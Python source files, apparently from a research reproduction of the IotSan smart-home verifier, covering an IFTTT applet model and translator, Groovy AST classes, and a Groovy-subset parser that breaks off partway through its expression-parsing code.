        "motion_sensors": ["smartthingsMotionDevice", "ringDoorbellDevice"],
        "alarm": "ringAlarmDevice",
        "siren": "ringAlarmDevice",
        "main_door_lock": "augustLockDevice",
        "presence_sensors": ["smartthingsPresenceDevice"],
        "voip_call": "voipCallsDevice",
        "entry_contacts": ["smartthingsContactDevice"],
    })
    return config
