"""The IFTTT Handler: applet -> single-handler smart app.

"Each rule is considered as an app, which has only a single event handler,
in IotSan and is translated into a Java class.  Each event handler (i.e.,
a Java method) has only a single instruction (i.e., the expected command);
the subscribed device and controlled device become class fields." (§11)

We go one better than emitting a separate class shape: the translator
renders each applet as SmartThings Groovy source and feeds it through the
*same* frontend as market apps (GParser -> SmartThings Handler -> IR), so
every downstream module (dependency analyzer, model generator, checker,
attribution) works on IFTTT rules unchanged.
"""

from repro.config.schema import SystemConfiguration
from repro.ifttt.services import service
from repro.smartapp import load_app

#: input names used by every generated rule app
TRIGGER_INPUT = "triggerDevice"
ACTION_INPUT = "actionDevice"

#: handler name used by every generated rule app
RULE_HANDLER = "ruleHandler"


class IFTTTTranslator:
    """Translates applets into SmartApps and builds rule deployments."""

    def to_groovy(self, applet):
        """The generated Groovy source for one applet."""
        trigger_service = service(applet.trigger_service)
        action_service = service(applet.action_service)
        trigger = trigger_service.trigger(applet.trigger)
        action = action_service.action(applet.action)
        subscription = "%s.%s" % (trigger.attribute, trigger.value)
        return _RULE_TEMPLATE % {
            "name": applet.name,
            "description": applet.description or applet.id,
            "trigger_input": TRIGGER_INPUT,
            "trigger_capability": trigger_service.capability,
            "action_input": ACTION_INPUT,
            "action_capability": action_service.capability,
            "subscription": subscription,
            "handler": RULE_HANDLER,
            "command": action.command,
        }

    def translate(self, applet):
        """Parse the generated source into a :class:`SmartApp`."""
        source = self.to_groovy(applet)
        return load_app(source, "%s.groovy" % applet.id)

    def translate_all(self, applets):
        """name -> SmartApp registry for a list of applets."""
        registry = {}
        for applet in applets:
            app = self.translate(applet)
            registry[app.name] = app
        return registry

    # ------------------------------------------------------------------
    # deployment construction
    # ------------------------------------------------------------------

    def build_configuration(self, applets, contacts=()):
        """A :class:`SystemConfiguration` deploying all ``applets``.

        One device per distinct service (rules naming the same service
        share the device, which is how IFTTT interactions arise), with
        each rule app bound to its trigger and action devices.
        """
        config = SystemConfiguration(contacts=contacts)
        device_names = {}
        for applet in applets:
            for service_name in (applet.trigger_service,
                                 applet.action_service):
                if service_name in device_names:
                    continue
                svc = service(service_name)
                device_name = _device_name(service_name)
                config.add_device(device_name, svc.device_type,
                                  label=service_name)
                device_names[service_name] = device_name
        for applet in applets:
            config.add_app(applet.name, {
                TRIGGER_INPUT: device_names[applet.trigger_service],
                ACTION_INPUT: device_names[applet.action_service],
            })
        return config


_RULE_TEMPLATE = '''\
definition(
    name: "%(name)s",
    namespace: "ifttt",
    author: "IFTTT",
    description: "%(description)s",
    category: "Convenience")

preferences {
    section("Trigger service (This)") {
        input "%(trigger_input)s", "capability.%(trigger_capability)s", title: "Trigger"
    }
    section("Action service (That)") {
        input "%(action_input)s", "capability.%(action_capability)s", title: "Action"
    }
}

def installed() {
    initialize()
}

def updated() {
    unsubscribe()
    initialize()
}

def initialize() {
    subscribe(%(trigger_input)s, "%(subscription)s", %(handler)s)
}

def %(handler)s(evt) {
    %(action_input)s.%(command)s()
}
'''


def _device_name(service_name):
    parts = service_name.split("-")
    return parts[0] + "".join(p.capitalize() for p in parts[1:]) + "Device"


def translate_applet(applet):
    """Convenience: translate one applet into a SmartApp."""
    return IFTTTTranslator().translate(applet)
