"""The IFTTT applet model.

An applet is one trigger/action pair.  The JSON shape matches what the
crawler of Mi et al. [63] produces for published applets: a name, the
trigger service + trigger event, and the action service + action command
(plus free-text fields we carry through untouched).
"""

import json
import os


class Applet:
    """One IFTTT rule: IF ``trigger`` on ``trigger_service`` THEN
    ``action`` on ``action_service``."""

    __slots__ = ("id", "name", "trigger_service", "trigger", "action_service",
                 "action", "description")

    def __init__(self, id, name, trigger_service, trigger, action_service,  # noqa: A002
                 action, description=""):
        self.id = id
        self.name = name
        self.trigger_service = trigger_service
        self.trigger = trigger
        self.action_service = action_service
        self.action = action
        self.description = description

    def to_dict(self):
        return {
            "id": self.id,
            "name": self.name,
            "trigger": {"service": self.trigger_service, "event": self.trigger},
            "action": {"service": self.action_service, "command": self.action},
            "description": self.description,
        }

    def to_json(self, indent=2):
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)

    def __repr__(self):
        return "Applet(%r: %s/%s -> %s/%s)" % (
            self.id, self.trigger_service, self.trigger,
            self.action_service, self.action)


def parse_applet(data):
    """Build an :class:`Applet` from crawler-style JSON (dict or text)."""
    if isinstance(data, str):
        data = json.loads(data)
    trigger = data.get("trigger", {})
    action = data.get("action", {})
    return Applet(
        id=data["id"],
        name=data.get("name", data["id"]),
        trigger_service=trigger["service"],
        trigger=trigger["event"],
        action_service=action["service"],
        action=action["command"],
        description=data.get("description", ""),
    )


def load_applets(directory):
    """Parse every ``*.json`` applet in a directory, sorted by filename."""
    applets = []
    for filename in sorted(os.listdir(directory)):
        if not filename.endswith(".json"):
            continue
        path = os.path.join(directory, filename)
        with open(path, "r", encoding="utf-8") as handle:
            applets.append(parse_applet(handle.read()))
    return applets
