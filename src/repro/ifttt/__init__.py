"""IFTTT support (§11): applets, services, and the rule translator.

"An IFTTT rule (also called applet) comprises of two main parts: 'Trigger
Service' (This) and 'Action Service' (That) ... Each rule is considered as
an app, which has only a single event handler, ... the subscribed device
and controlled device become class fields."

* :mod:`repro.ifttt.applet` - the applet model plus the crawler-style JSON
  representation;
* :mod:`repro.ifttt.services` - the eight modeled IoT-related services and
  their trigger/action vocabularies;
* :mod:`repro.ifttt.translator` - applet -> single-handler smart app (the
  IFTTT Handler), reusing the whole downstream pipeline unchanged;
* :mod:`repro.ifttt.table9` - the ten smart-home rules of Table 9 and the
  four safety properties they are checked against.
"""

from repro.ifttt.applet import Applet, load_applets, parse_applet
from repro.ifttt.services import SERVICES, Service, service
from repro.ifttt.translator import IFTTTTranslator, translate_applet
from repro.ifttt.table9 import (
    TABLE9_PROPERTIES,
    table9_applets,
    table9_configuration,
)

__all__ = [
    "Applet",
    "load_applets",
    "parse_applet",
    "SERVICES",
    "Service",
    "service",
    "IFTTTTranslator",
    "translate_applet",
    "TABLE9_PROPERTIES",
    "table9_applets",
    "table9_configuration",
]
