"""Error types raised by the Groovy frontend."""


class GroovyError(Exception):
    """Base class for all frontend errors.

    Carries the source position (1-based line and column) so that callers can
    render Bandera-style error trails pointing back at the app source.
    """

    def __init__(self, message, line=None, col=None, source_name=None):
        self.message = message
        self.line = line
        self.col = col
        self.source_name = source_name or "<groovy>"
        super().__init__(self._format())

    def _format(self):
        if self.line is None:
            return "%s: %s" % (self.source_name, self.message)
        return "%s:%d:%d: %s" % (self.source_name, self.line, self.col or 0, self.message)


class LexError(GroovyError):
    """Raised when the lexer encounters a malformed token."""


class ParseError(GroovyError):
    """Raised when the parser cannot derive a valid AST."""
