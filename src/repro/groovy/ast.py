"""AST node classes for the Groovy subset.

Nodes are plain data classes with ``line``/``col`` source positions.  The
node set intentionally mirrors what the paper's G2J translator consumes: a
program is a list of method definitions plus top-level statements (the
SmartThings ``definition``/``preferences`` DSL appears as top-level calls).
"""


class Node:
    """Base class for every AST node."""

    _fields = ()

    def __init__(self, line=0, col=0):
        self.line = line
        self.col = col

    def children(self):
        """Yield child nodes (flattening lists), for generic tree walks."""
        for name in self._fields:
            value = getattr(self, name)
            if isinstance(value, Node):
                yield value
            elif isinstance(value, (list, tuple)):
                for item in value:
                    if isinstance(item, Node):
                        yield item
                    elif isinstance(item, (list, tuple)):
                        for sub in item:
                            if isinstance(sub, Node):
                                yield sub

    def walk(self):
        """Yield this node and every descendant, pre-order."""
        yield self
        for child in self.children():
            for node in child.walk():
                yield node

    def __repr__(self):
        parts = []
        for name in self._fields:
            parts.append("%s=%r" % (name, getattr(self, name)))
        return "%s(%s)" % (type(self).__name__, ", ".join(parts))


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


class Expr(Node):
    """Base class for expressions."""


class Literal(Expr):
    """A literal constant: number, plain string, boolean or null."""

    _fields = ("value",)

    def __init__(self, value, **kw):
        super().__init__(**kw)
        self.value = value


class GString(Expr):
    """A double-quoted string with ``${...}`` interpolation.

    ``parts`` alternates literal text fragments (``str``) and interpolated
    expressions (:class:`Expr`).
    """

    _fields = ("parts",)

    def __init__(self, parts, **kw):
        super().__init__(**kw)
        self.parts = parts


class Name(Expr):
    """A bare identifier reference."""

    _fields = ("id",)

    def __init__(self, id, **kw):  # noqa: A002 - mirrors Python's own ast.Name
        super().__init__(**kw)
        self.id = id


class ListLit(Expr):
    """A list literal ``[a, b, c]``."""

    _fields = ("items",)

    def __init__(self, items, **kw):
        super().__init__(**kw)
        self.items = items


class MapEntry(Node):
    """One ``key: value`` entry of a map literal."""

    _fields = ("key", "value")

    def __init__(self, key, value, **kw):
        super().__init__(**kw)
        self.key = key  # str for identifier/string keys, Expr for computed
        self.value = value


class MapLit(Expr):
    """A map literal ``[k: v, ...]`` (``[:]`` when empty)."""

    _fields = ("entries",)

    def __init__(self, entries, **kw):
        super().__init__(**kw)
        self.entries = entries


class RangeLit(Expr):
    """An inclusive range ``lo..hi``."""

    _fields = ("lo", "hi")

    def __init__(self, lo, hi, **kw):
        super().__init__(**kw)
        self.lo = lo
        self.hi = hi


class Property(Expr):
    """Property access ``obj.name`` (``obj?.name`` when ``safe``)."""

    _fields = ("obj", "name")

    def __init__(self, obj, name, safe=False, **kw):
        super().__init__(**kw)
        self.obj = obj
        self.name = name
        self.safe = safe


class Index(Expr):
    """Subscript access ``obj[index]``."""

    _fields = ("obj", "index")

    def __init__(self, obj, index, **kw):
        super().__init__(**kw)
        self.obj = obj
        self.index = index


class Call(Expr):
    """A free-function call ``name(args)`` including command-style calls.

    ``named`` holds ``key: value`` arguments (SmartThings passes option maps
    this way).  ``closure`` holds a trailing closure argument if present.
    """

    _fields = ("args", "named", "closure")

    def __init__(self, name, args, named=None, closure=None, **kw):
        super().__init__(**kw)
        self.name = name
        self.args = args
        self.named = named or []
        self.closure = closure


class MethodCall(Expr):
    """A method call ``obj.name(args)``.

    ``safe`` marks ``?.`` calls; ``spread`` marks ``*.`` calls (apply to every
    element of a collection, used for e.g. ``switches*.on()``).
    """

    _fields = ("obj", "args", "named", "closure")

    def __init__(self, obj, name, args, named=None, closure=None, safe=False,
                 spread=False, **kw):
        super().__init__(**kw)
        self.obj = obj
        self.name = name
        self.args = args
        self.named = named or []
        self.closure = closure
        self.safe = safe
        self.spread = spread


class Closure(Expr):
    """A closure literal ``{ a, b -> body }`` (implicit ``it`` when no params)."""

    _fields = ("params", "body")

    def __init__(self, params, body, **kw):
        super().__init__(**kw)
        self.params = params
        self.body = body


class Binary(Expr):
    """A binary operation."""

    _fields = ("left", "right")

    def __init__(self, op, left, right, **kw):
        super().__init__(**kw)
        self.op = op
        self.left = left
        self.right = right


class Unary(Expr):
    """A prefix unary operation (``!``, ``-``, ``+``, ``++``, ``--``)."""

    _fields = ("operand",)

    def __init__(self, op, operand, **kw):
        super().__init__(**kw)
        self.op = op
        self.operand = operand


class Postfix(Expr):
    """A postfix ``++``/``--``."""

    _fields = ("operand",)

    def __init__(self, op, operand, **kw):
        super().__init__(**kw)
        self.op = op
        self.operand = operand


class Ternary(Expr):
    """The conditional expression ``cond ? then : orelse``."""

    _fields = ("cond", "then", "orelse")

    def __init__(self, cond, then, orelse, **kw):
        super().__init__(**kw)
        self.cond = cond
        self.then = then
        self.orelse = orelse


class Elvis(Expr):
    """The elvis operator ``value ?: fallback``."""

    _fields = ("value", "fallback")

    def __init__(self, value, fallback, **kw):
        super().__init__(**kw)
        self.value = value
        self.fallback = fallback


class Cast(Expr):
    """A Groovy ``expr as Type`` coercion."""

    _fields = ("value",)

    def __init__(self, value, type_name, **kw):
        super().__init__(**kw)
        self.value = value
        self.type_name = type_name


class New(Expr):
    """Object construction ``new Type(args)``."""

    _fields = ("args",)

    def __init__(self, type_name, args, **kw):
        super().__init__(**kw)
        self.type_name = type_name
        self.args = args


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------


class Stmt(Node):
    """Base class for statements."""


class ExprStmt(Stmt):
    """An expression evaluated for effect."""

    _fields = ("value",)

    def __init__(self, value, **kw):
        super().__init__(**kw)
        self.value = value


class VarDecl(Stmt):
    """``def x = e`` or ``Type x = e`` (``value`` may be ``None``)."""

    _fields = ("value",)

    def __init__(self, name, value, type_name=None, **kw):
        super().__init__(**kw)
        self.name = name
        self.value = value
        self.type_name = type_name


class Assign(Stmt):
    """Assignment ``target op value`` where op is ``=``, ``+=`` etc."""

    _fields = ("target", "value")

    def __init__(self, target, op, value, **kw):
        super().__init__(**kw)
        self.target = target
        self.op = op
        self.value = value


class If(Stmt):
    """``if (cond) { ... } else { ... }``."""

    _fields = ("cond", "then", "orelse")

    def __init__(self, cond, then, orelse=None, **kw):
        super().__init__(**kw)
        self.cond = cond
        self.then = then
        self.orelse = orelse


class While(Stmt):
    """``while (cond) { ... }``."""

    _fields = ("cond", "body")

    def __init__(self, cond, body, **kw):
        super().__init__(**kw)
        self.cond = cond
        self.body = body


class ForIn(Stmt):
    """``for (x in iterable) { ... }``."""

    _fields = ("iterable", "body")

    def __init__(self, var, iterable, body, **kw):
        super().__init__(**kw)
        self.var = var
        self.iterable = iterable
        self.body = body


class ForC(Stmt):
    """C-style ``for (init; cond; update) { ... }``."""

    _fields = ("init", "cond", "update", "body")

    def __init__(self, init, cond, update, body, **kw):
        super().__init__(**kw)
        self.init = init
        self.cond = cond
        self.update = update
        self.body = body


class Return(Stmt):
    """``return expr?``."""

    _fields = ("value",)

    def __init__(self, value=None, **kw):
        super().__init__(**kw)
        self.value = value


class Break(Stmt):
    """``break``."""


class Continue(Stmt):
    """``continue``."""


class SwitchCase(Node):
    """One ``case`` arm of a switch (``values`` empty for ``default``)."""

    _fields = ("values", "body")

    def __init__(self, values, body, **kw):
        super().__init__(**kw)
        self.values = values
        self.body = body


class Switch(Stmt):
    """``switch (subject) { case v: ...; default: ... }``."""

    _fields = ("subject", "cases")

    def __init__(self, subject, cases, **kw):
        super().__init__(**kw)
        self.subject = subject
        self.cases = cases


class Block(Stmt):
    """A brace-delimited statement list."""

    _fields = ("stmts",)

    def __init__(self, stmts, **kw):
        super().__init__(**kw)
        self.stmts = stmts


class Try(Stmt):
    """``try { ... } catch (e) { ... } finally { ... }``.

    ``catches`` is a list of ``(type_name, var_name, Block)`` triples.
    """

    _fields = ("body", "finally_body")

    def __init__(self, body, catches=None, finally_body=None, **kw):
        super().__init__(**kw)
        self.body = body
        self.catches = catches or []
        self.finally_body = finally_body

    def children(self):
        for child in super().children():
            yield child
        for _type, _name, block in self.catches:
            yield block


class Throw(Stmt):
    """``throw expr``."""

    _fields = ("value",)

    def __init__(self, value, **kw):
        super().__init__(**kw)
        self.value = value


class Param(Node):
    """A method/closure parameter, optionally typed with a default value."""

    _fields = ("default",)

    def __init__(self, name, type_name=None, default=None, **kw):
        super().__init__(**kw)
        self.name = name
        self.type_name = type_name
        self.default = default


class MethodDef(Stmt):
    """A method definition ``def name(params) { body }``."""

    _fields = ("params", "body")

    def __init__(self, name, params, body, modifiers=None, return_type=None, **kw):
        super().__init__(**kw)
        self.name = name
        self.params = params
        self.body = body
        self.modifiers = modifiers or []
        self.return_type = return_type


class Program(Node):
    """A whole smart-app source file."""

    _fields = ("statements",)

    def __init__(self, statements, source_name="<groovy>", **kw):
        super().__init__(**kw)
        self.statements = statements
        self.source_name = source_name

    @property
    def methods(self):
        """The method definitions in the program, in source order."""
        return [s for s in self.statements if isinstance(s, MethodDef)]

    def method(self, name):
        """Return the method definition named ``name`` or ``None``."""
        for m in self.methods:
            if m.name == name:
                return m
        return None

    @property
    def top_level_calls(self):
        """Top-level DSL calls (``definition``, ``preferences``, ...)."""
        calls = []
        for stmt in self.statements:
            if isinstance(stmt, ExprStmt) and isinstance(stmt.value, Call):
                calls.append(stmt.value)
        return calls
