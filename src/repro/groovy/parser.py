"""Recursive-descent parser for the Groovy subset.

The grammar covers what SmartThings smart apps use in practice:

* top-level DSL calls (``definition(...)``, ``preferences { ... }``,
  ``mappings { ... }``) and method definitions;
* statements: declarations, assignments (incl. compound), ``if``/``else``,
  ``for``/``while``, ``switch``, ``return``, ``try``/``catch``,
  command-style (paren-less) calls such as ``input "x", "capability.switch"``
  and ``log.debug "message"``;
* expressions: the full operator zoo apps rely on — ternary, elvis,
  safe navigation, spread method calls, ranges, ``in``/``instanceof``,
  closures with and without explicit parameters, list/map literals, and
  GString interpolation.

Newline handling follows Groovy: a newline ends a statement unless the line
cannot be complete (we skip newlines after commas, binary operators, and
opening brackets).
"""

from repro.groovy import ast
from repro.groovy.errors import ParseError
from repro.groovy.lexer import Interp, TokenType, tokenize

# Binary operator precedence, low to high.  Each level is a set of operator
# lexemes valid at that level.
_PRECEDENCE_LEVELS = [
    {"||"},
    {"&&"},
    {"|"},
    {"^"},
    {"&"},
    {"==", "!=", "<=>", "==~"},
    {"<", "<=", ">", ">=", "in", "instanceof"},
    {"..",},
    {"<<", ">>"},
    {"+", "-"},
    {"*", "/", "%"},
    {"**"},
]

_ARG_START_TYPES = (TokenType.STRING, TokenType.GSTRING, TokenType.NUMBER,
                    TokenType.IDENT)
_ARG_START_KEYWORDS = ("true", "false", "null", "new")
_ASSIGN_OPS = ("=", "+=", "-=", "*=", "/=")


class Parser:
    """Parses a token stream into a :class:`repro.groovy.ast.Program`."""

    def __init__(self, tokens, source_name="<groovy>"):
        self.tokens = tokens
        self.source_name = source_name
        self.pos = 0

    # ------------------------------------------------------------------
    # token helpers
    # ------------------------------------------------------------------

    def _cur(self):
        return self.tokens[self.pos]

    def _peek(self, offset=1):
        index = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[index]

    def _advance(self):
        tok = self.tokens[self.pos]
        if self.pos < len(self.tokens) - 1:
            self.pos += 1
        return tok

    def _error(self, message, token=None):
        token = token or self._cur()
        raise ParseError(message, token.line, token.col, self.source_name)

    def _expect_op(self, op):
        tok = self._cur()
        if not tok.is_op(op):
            self._error("expected %r but found %r" % (op, tok.value))
        return self._advance()

    def _expect_ident(self):
        tok = self._cur()
        if tok.type != TokenType.IDENT:
            self._error("expected identifier but found %r" % (tok.value,))
        return self._advance()

    def _skip_newlines(self):
        while self._cur().type == TokenType.NEWLINE or self._cur().is_op(";"):
            self._advance()

    def _at_newline_boundary(self):
        """True when the current token ends the current logical line."""
        tok = self._cur()
        return (tok.type in (TokenType.NEWLINE, TokenType.EOF)
                or tok.is_op(";", "}"))

    def _name_token(self):
        """Accept an identifier or a keyword used in name position."""
        tok = self._cur()
        if tok.type in (TokenType.IDENT, TokenType.KEYWORD):
            self._advance()
            return tok
        self._error("expected name but found %r" % (tok.value,))

    # ------------------------------------------------------------------
    # program structure
    # ------------------------------------------------------------------

    def parse_program(self):
        statements = []
        self._skip_newlines()
        while self._cur().type != TokenType.EOF:
            if self._cur().is_kw("import", "package"):
                self._skip_to_eol()
            elif self._looks_like_method_def():
                statements.append(self._parse_method_def())
            else:
                statements.append(self._parse_statement())
            self._skip_newlines()
        return ast.Program(statements, source_name=self.source_name)

    def _skip_to_eol(self):
        while not self._at_newline_boundary():
            self._advance()

    def _looks_like_method_def(self):
        """Detect ``[modifiers] (def|void|Type) name ( ... ) {``."""
        save = self.pos
        try:
            while self._cur().is_kw("private", "public", "protected", "static", "final"):
                self._advance()
            tok = self._cur()
            if tok.is_kw("def", "void"):
                self._advance()
            elif tok.type == TokenType.IDENT and self._peek().type == TokenType.IDENT:
                self._advance()  # return type
            elif tok.type == TokenType.IDENT and save != self.pos:
                pass  # modifier-only method: `private name(...)`
            elif save == self.pos:
                return False
            if self._cur().type != TokenType.IDENT:
                return False
            if not self._peek().is_op("("):
                return False
            # scan to the matching `)` and require a `{` after it
            depth = 0
            index = self.pos + 1
            while index < len(self.tokens):
                tok = self.tokens[index]
                if tok.is_op("("):
                    depth += 1
                elif tok.is_op(")"):
                    depth -= 1
                    if depth == 0:
                        break
                index += 1
            index += 1
            while index < len(self.tokens) and self.tokens[index].type == TokenType.NEWLINE:
                index += 1
            return index < len(self.tokens) and self.tokens[index].is_op("{")
        finally:
            self.pos = save

    def _parse_method_def(self):
        line, col = self._cur().line, self._cur().col
        modifiers = []
        while self._cur().is_kw("private", "public", "protected", "static", "final"):
            modifiers.append(self._advance().value)
        return_type = None
        if self._cur().is_kw("def", "void"):
            return_type = self._advance().value
            if return_type == "def":
                return_type = None
        elif self._cur().type == TokenType.IDENT and self._peek().type == TokenType.IDENT:
            return_type = self._advance().value
        name = self._expect_ident().value
        params = self._parse_param_list()
        self._skip_newlines()
        body = self._parse_block()
        return ast.MethodDef(name, params, body, modifiers=modifiers,
                             return_type=return_type, line=line, col=col)

    def _parse_param_list(self):
        self._expect_op("(")
        self._skip_newlines()
        params = []
        while not self._cur().is_op(")"):
            type_name = None
            if (self._cur().type == TokenType.IDENT
                    and self._peek().type == TokenType.IDENT):
                type_name = self._advance().value
            name = self._expect_ident().value
            default = None
            if self._cur().is_op("="):
                self._advance()
                default = self.parse_expr()
            params.append(ast.Param(name, type_name=type_name, default=default))
            self._skip_newlines()
            if self._cur().is_op(","):
                self._advance()
                self._skip_newlines()
        self._expect_op(")")
        return params

    # ------------------------------------------------------------------
    # statements
    # ------------------------------------------------------------------

    def _parse_block(self):
        line, col = self._cur().line, self._cur().col
        self._expect_op("{")
        stmts = []
        self._skip_newlines()
        while not self._cur().is_op("}"):
            if self._cur().type == TokenType.EOF:
                self._error("unexpected end of input inside block")
            stmts.append(self._parse_statement())
            self._skip_newlines()
        self._expect_op("}")
        return ast.Block(stmts, line=line, col=col)

    def _parse_statement_or_block(self):
        """A block, or a single statement wrapped in one (braceless if/for)."""
        self._skip_newlines()
        if self._cur().is_op("{"):
            return self._parse_block()
        stmt = self._parse_statement()
        return ast.Block([stmt], line=stmt.line, col=stmt.col)

    def _parse_statement(self):
        self._skip_newlines()
        tok = self._cur()
        if tok.is_kw("if"):
            return self._parse_if()
        if tok.is_kw("while"):
            return self._parse_while()
        if tok.is_kw("for"):
            return self._parse_for()
        if tok.is_kw("switch"):
            return self._parse_switch()
        if tok.is_kw("try"):
            return self._parse_try()
        if tok.is_kw("throw"):
            self._advance()
            value = self.parse_expr()
            return ast.Throw(value, line=tok.line, col=tok.col)
        if tok.is_kw("return"):
            self._advance()
            value = None
            if not self._at_newline_boundary():
                value = self.parse_expr()
            return ast.Return(value, line=tok.line, col=tok.col)
        if tok.is_kw("break"):
            self._advance()
            return ast.Break(line=tok.line, col=tok.col)
        if tok.is_kw("continue"):
            self._advance()
            return ast.Continue(line=tok.line, col=tok.col)
        if tok.is_kw("def"):
            return self._parse_def_decl()
        if self._looks_like_typed_decl():
            return self._parse_typed_decl()
        if tok.is_op("{"):
            return self._parse_block()
        return self._parse_expression_statement()

    def _parse_if(self):
        tok = self._advance()
        self._expect_op("(")
        self._skip_newlines()
        cond = self.parse_expr()
        self._skip_newlines()
        self._expect_op(")")
        then = self._parse_statement_or_block()
        orelse = None
        save = self.pos
        self._skip_newlines()
        if self._cur().is_kw("else"):
            self._advance()
            self._skip_newlines()
            if self._cur().is_kw("if"):
                orelse = ast.Block([self._parse_if()])
            else:
                orelse = self._parse_statement_or_block()
        else:
            self.pos = save
        return ast.If(cond, then, orelse, line=tok.line, col=tok.col)

    def _parse_while(self):
        tok = self._advance()
        self._expect_op("(")
        self._skip_newlines()
        cond = self.parse_expr()
        self._skip_newlines()
        self._expect_op(")")
        body = self._parse_statement_or_block()
        return ast.While(cond, body, line=tok.line, col=tok.col)

    def _parse_for(self):
        tok = self._advance()
        self._expect_op("(")
        self._skip_newlines()
        # `for (x in e)` / `for (def x in e)`
        save = self.pos
        if self._cur().is_kw("def"):
            self._advance()
        if (self._cur().type == TokenType.IDENT and self._peek().is_kw("in")):
            var = self._advance().value
            self._advance()  # `in`
            iterable = self.parse_expr()
            self._skip_newlines()
            self._expect_op(")")
            body = self._parse_statement_or_block()
            return ast.ForIn(var, iterable, body, line=tok.line, col=tok.col)
        self.pos = save
        init = None
        if not self._cur().is_op(";"):
            init = self._parse_simple_statement()
        self._expect_op(";")
        cond = None
        if not self._cur().is_op(";"):
            cond = self.parse_expr()
        self._expect_op(";")
        update = None
        if not self._cur().is_op(")"):
            update = self._parse_simple_statement()
        self._expect_op(")")
        body = self._parse_statement_or_block()
        return ast.ForC(init, cond, update, body, line=tok.line, col=tok.col)

    def _parse_simple_statement(self):
        """A declaration/assignment/expression without command-call handling
        (used in C-style ``for`` headers)."""
        if self._cur().is_kw("def"):
            return self._parse_def_decl()
        if self._looks_like_typed_decl():
            return self._parse_typed_decl()
        expr = self.parse_expr()
        if self._cur().is_op(*_ASSIGN_OPS):
            op = self._advance().value
            self._skip_newlines()
            value = self.parse_expr()
            return ast.Assign(expr, op, value, line=expr.line, col=expr.col)
        return ast.ExprStmt(expr, line=expr.line, col=expr.col)

    def _parse_switch(self):
        tok = self._advance()
        self._expect_op("(")
        self._skip_newlines()
        subject = self.parse_expr()
        self._skip_newlines()
        self._expect_op(")")
        self._skip_newlines()
        self._expect_op("{")
        cases = []
        self._skip_newlines()
        pending_values = []
        while not self._cur().is_op("}"):
            if self._cur().is_kw("case"):
                self._advance()
                pending_values.append(self.parse_expr())
                self._expect_op(":")
            elif self._cur().is_kw("default"):
                self._advance()
                self._expect_op(":")
                pending_values = None  # marker: default arm
            else:
                self._error("expected 'case' or 'default' in switch")
            body = []
            self._skip_newlines()
            while not (self._cur().is_op("}") or self._cur().is_kw("case", "default")):
                body.append(self._parse_statement())
                self._skip_newlines()
            if pending_values is None:
                cases.append(ast.SwitchCase([], ast.Block(body)))
                pending_values = []
            elif body:
                cases.append(ast.SwitchCase(pending_values, ast.Block(body)))
                pending_values = []
            # empty body with pending values: fall through and accumulate
            self._skip_newlines()
        self._expect_op("}")
        return ast.Switch(subject, cases, line=tok.line, col=tok.col)

    def _parse_try(self):
        tok = self._advance()
        self._skip_newlines()
        body = self._parse_block()
        catches = []
        finally_body = None
        while True:
            save = self.pos
            self._skip_newlines()
            if self._cur().is_kw("catch"):
                self._advance()
                self._expect_op("(")
                type_name = None
                if (self._cur().type == TokenType.IDENT
                        and self._peek().type == TokenType.IDENT):
                    type_name = self._advance().value
                var = self._expect_ident().value
                self._expect_op(")")
                self._skip_newlines()
                catches.append((type_name, var, self._parse_block()))
            elif self._cur().is_kw("finally"):
                self._advance()
                self._skip_newlines()
                finally_body = self._parse_block()
            else:
                self.pos = save
                break
        return ast.Try(body, catches=catches, finally_body=finally_body,
                       line=tok.line, col=tok.col)

    def _parse_def_decl(self):
        tok = self._advance()  # `def`
        name = self._expect_ident().value
        value = None
        if self._cur().is_op("="):
            self._advance()
            self._skip_newlines()
            value = self.parse_expr()
        return ast.VarDecl(name, value, line=tok.line, col=tok.col)

    def _looks_like_typed_decl(self):
        """Detect ``Type name =`` / ``Type name<EOL>`` declarations."""
        tok = self._cur()
        if tok.type != TokenType.IDENT or self._peek().type != TokenType.IDENT:
            return False
        after = self._peek(2)
        return after.is_op("=") or after.type in (TokenType.NEWLINE, TokenType.EOF) \
            or after.is_op(";")

    def _parse_typed_decl(self):
        tok = self._cur()
        type_name = self._advance().value
        name = self._expect_ident().value
        value = None
        if self._cur().is_op("="):
            self._advance()
            self._skip_newlines()
            value = self.parse_expr()
        return ast.VarDecl(name, value, type_name=type_name,
                           line=tok.line, col=tok.col)

    def _parse_expression_statement(self):
        expr = self.parse_expr()
        tok = self._cur()
        if tok.is_op(*_ASSIGN_OPS):
            if not isinstance(expr, (ast.Name, ast.Property, ast.Index)):
                self._error("invalid assignment target")
            op = self._advance().value
            self._skip_newlines()
            value = self.parse_expr()
            return ast.Assign(expr, op, value, line=expr.line, col=expr.col)
        if isinstance(expr, (ast.Name, ast.Property)) and self._starts_command_args():
            return ast.ExprStmt(self._parse_command_call(expr),
                                line=expr.line, col=expr.col)
        return ast.ExprStmt(expr, line=expr.line, col=expr.col)

    def _starts_command_args(self):
        """True when the current token begins paren-less call arguments."""
        tok = self._cur()
        if tok.type in (TokenType.STRING, TokenType.GSTRING, TokenType.NUMBER):
            return True
        if tok.type == TokenType.IDENT:
            return True
        if tok.is_kw(*_ARG_START_KEYWORDS):
            return True
        if tok.is_op("["):
            return True
        if tok.is_op("-") and self._peek().type == TokenType.NUMBER:
            return True
        return False

    def _parse_command_call(self, callee):
        args, named = self._parse_command_arg_list()
        closure = None
        if self._cur().is_op("{"):
            closure = self._parse_closure()
        if isinstance(callee, ast.Name):
            return ast.Call(callee.id, args, named=named, closure=closure,
                            line=callee.line, col=callee.col)
        return ast.MethodCall(callee.obj, callee.name, args, named=named,
                              closure=closure, safe=callee.safe,
                              line=callee.line, col=callee.col)

    def _parse_command_arg_list(self):
        args, named = [], []
        while True:
            if self._is_named_arg():
                key = self._name_token().value
                self._expect_op(":")
                self._skip_newlines()
                named.append(ast.MapEntry(key, self.parse_expr()))
            else:
                args.append(self.parse_expr())
            if self._cur().is_op(","):
                self._advance()
                self._skip_newlines()
                continue
            break
        return args, named

    def _is_named_arg(self):
        tok = self._cur()
        if tok.type in (TokenType.IDENT, TokenType.STRING) or tok.is_kw("default"):
            return self._peek().is_op(":")
        return False

    # ------------------------------------------------------------------
    # expressions
    # ------------------------------------------------------------------

    def parse_expr(self):
        return self._parse_ternary()

    def _parse_ternary(self):
        expr = self._parse_binary(0)
        if self._cur().is_op("?:"):
            tok = self._advance()
            self._skip_newlines()
            fallback = self._parse_ternary()
